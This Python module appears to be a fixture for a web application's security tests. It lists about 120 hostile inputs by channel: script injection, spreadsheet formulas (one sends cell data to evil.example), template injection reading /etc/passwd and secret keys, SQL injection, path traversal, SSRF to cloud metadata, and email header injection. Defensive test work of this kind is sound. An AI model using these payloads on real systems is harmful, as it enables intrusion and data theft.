"""What is typed, sent and asked by those who attack: one table a channel, so that it is counted."""

from __future__ import annotations

SCRIPTS = (
    "<script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "'><svg/onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;<img src=1 onerror=alert(1)>"
    "'>",
    "<a href='javascript:alert(1)'>x</a>",
    "<style>@import '//evil.example'</style>",
    "<base href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<form action=//evil.example><button>x",
    "</title><script>alert(1)</script>",
    "<!--<script>-->alert(1)",
    "<x onpointerrawupdate=alert(1)>",
    "\u003cscript\u003ealert(1)//\u2028",
)
"""Typed as a title, a text, a signature, a name; asked as a filter, a sort, a page, a search."""

RICH = (
    "[a](javascript:alert(1))",
    "[a](JaVaScRiPt:alert(1))",
    "[a](&#106;avascript:alert(1))",
    "[a](data:text/html;base64,PHNjcmlwdD4=)",
    "![a](javascript:alert(1))",
    "![a](data:image/svg+xml,<svg/onload=alert(1)>)",
    "[a](vbscript:msgbox(1))",
    "<javascript:alert(1)>",
    "<b style='position:fixed'>x</b>",
    "<svg><script>alert(1)</script></svg>",
    "[a]: javascript:alert(1)\n\n[a]",
    '[a](https://x.example "onmouseover=alert(1)")',
)
"""Text that a steward lays out: introductions, newsletters."""

FORMULAS = (
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example","x")',
    "=IMPORTXML(CONCAT('http://evil.example/',A1),'//a')",
    "＝1+1",
)
"""What a spreadsheet computes when a cell begins with it."""

TEMPLATES = (
    "{{7*7}}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "{% for x in ().__class__.__base__.__subclasses__() %}{% endfor %}",
    "{{ config.SECRET_KEY }}",
    '#read("/etc/passwd")',
    '#image("file:///etc/passwd")',
    "\\input{/etc/passwd}",
    "\\write18{id}",
    "%(message)s %s {0.__class__}",
)
"""What an engine that makes pages, PDF or DOCX would run."""

ELSEWHERE = (
    "//evil.example",
    "///evil.example",
    "/////evil.example",
    "/\\evil.example",
    "\\\\evil.example",
    "https://evil.example",
    "https:evil.example",
    "javascript:alert(1)",
    "/\tevil.example",
    "/%09/evil.example",
    "http:///evil.example",
    "//consultation.example@evil.example",
    "/..//evil.example",
)
"""Where a page is asked to lead after signing in."""

QUERIES = (
    "' OR '1'='1",
    "1;DROP TABLE account--",
    "account.password_hash",
    "(SELECT password_hash FROM account LIMIT 1)",
    "id desc nulls last, (select 1/0)",
    '"; SELECT pg_sleep(5)--',
    "' UNION SELECT email FROM account--",
    "%27%20OR%201=1--",
    "email",
    "participant.name",
    "-1",
    "9" * 40,
)
"""Asked as a sort, a filter, a cursor, a search."""

PATHS = (
    "../../etc/passwd",
    "..%2f..%2fetc%2fpasswd",
    "..%5c..%5cwindows%5cwin.ini",
    "%2e%2e/%2e%2e/etc/passwd",
    "....//....//etc/passwd",
    "/etc/passwd",
    "%00",
    "a%00.png",
    "..;/admin",
    "%c0%ae%c0%ae/etc/passwd",
    "file:///etc/passwd",
    "~root",
)
"""Names of files and identifiers that would leave their folder."""

HOSTS = (
    "evil.example",
    "consultation.example.evil.example",
    "consultation.example@evil.example",
    "evil.example:443",
    "localhost",
    "127.0.0.1",
    "[::1]",
    "consultation.example\\.evil.example",
)
"""Forged into Host; into X-Forwarded-Host as well."""

SERVER_ADDRESSES = (
    "http://127.0.0.1/",
    "http://[::1]/",
    "http://169.254.169.254/latest/meta-data/",
    "http://0.0.0.0/",
    "http://2130706433/",
    "http://localtest.me/",
    "file:///etc/passwd",
    "gopher://127.0.0.1:6379/_INFO",
)
"""Addresses that a server which fetches what it is told would fetch."""

TOKENS = (
    "",
    "0",
    "x" * 40,
    "X" * 4096,
    "null",
    "../" * 5,
    "%00" * 20,
    "é" * 20,
)
"""In the place of a secret, besides those that are expired, used, cut short or somebody else's."""

ADDRESSES = (
    "a@region.example\r\nBcc: everybody@evil.example",
    "a@region.example%0d%0aBcc:everybody@evil.example",
    "a@region.example,b@evil.example",
    "a@region.example;b@evil.example",
    '"a\r\nSubject: x"@region.example',
    "a@region.example\0@evil.example",
    "<script>@region.example",
    "a" * 300 + "@region.example",
    "a@[127.0.0.1]",
    "@region.example",
)
"""Where messages are asked to go."""

COOKIES = (
    "",
    "null",
    "e30.e30.e30",
    "eyJfdXNlcl9pZCI6IjEifQ.aaaaaa.bbbbbb",
    "." * 200,
    "A" * 3000,
    "%00",
)
"""Session cookies that nobody signed."""

EVERY_INPUT = (
    SCRIPTS,
    RICH,
    FORMULAS,
    TEMPLATES,
    ELSEWHERE,
    QUERIES,
    PATHS,
    HOSTS,
    SERVER_ADDRESSES,
    TOKENS,
    ADDRESSES,
    COOKIES,
)
LEAST = 120


def number_of_inputs() -> int:
    """How many inputs the attacks use, besides marks, files, requests at once and the crawl."""
    return sum(len(one) for one in EVERY_INPUT)
